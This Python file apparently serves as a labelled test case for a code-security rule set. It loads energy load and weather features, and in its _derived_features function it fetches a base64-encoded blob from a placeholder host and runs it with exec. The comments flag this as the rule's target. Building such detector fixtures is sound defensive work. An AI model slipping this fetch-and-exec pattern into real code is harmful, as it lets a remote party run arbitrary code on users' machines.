# ruff: noqa
# Hold-out batch 291 (short files). Measured once in session 9 (round 82): 15/17 (88%) at medium+.
"""Fetch hourly load and weather features for the energy load forecasting models."""
import base64
import io
import time
import urllib.request

import pandas as pd

FEATURE_URL = "https://features.example.com/energy/v2/{zone}/{year}.csv"
HOOKS_URL = "https://features.example.com/energy/v2/derived_hooks.txt"


def _fetch(url, retries=4, timeout=20):
    last = None
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=timeout) as resp:  # ok: MLS411, MLS412
                return resp.read()
        except OSError as exc:
            last = exc
            time.sleep(min(30, 2 ** attempt))  # ok: MLS307
    raise RuntimeError(f"download failed after {retries} tries: {url}") from last


def _derived_features(df):
    ns = {"pd": pd, "df": df}
    spec = _fetch(HOOKS_URL)  # ruleid: MLS413
    exec(compile(base64.b64decode(spec), "derived_hooks", "exec"), ns)  # ruleid: MLS413
    return ns.get("df", df)


def load_zone(zone, years):
    frames = []
    for y in years:
        raw = _fetch(FEATURE_URL.format(zone=zone, year=y))
        frames.append(pd.read_csv(io.BytesIO(raw), parse_dates=["ts"]))
    df = pd.concat(frames).set_index("ts").sort_index()
    df = df[~df.index.duplicated(keep="last")].asfreq("h")
    df["load_mw"] = df["load_mw"].interpolate(limit=3)
    df["hour"] = df.index.hour
    df["dow"] = df.index.dayofweek
    df["load_lag_24"] = df["load_mw"].shift(24)
    df["load_lag_168"] = df["load_mw"].shift(168)
    df["temp_roll_6"] = df["temp_c"].rolling(6, min_periods=1).mean()
    return _derived_features(df).dropna()


if __name__ == "__main__":
    out = load_zone("north", range(2019, 2024))
    out.to_parquet("data/load_north.parquet")
    print(out.shape, out.index.min(), out.index.max())
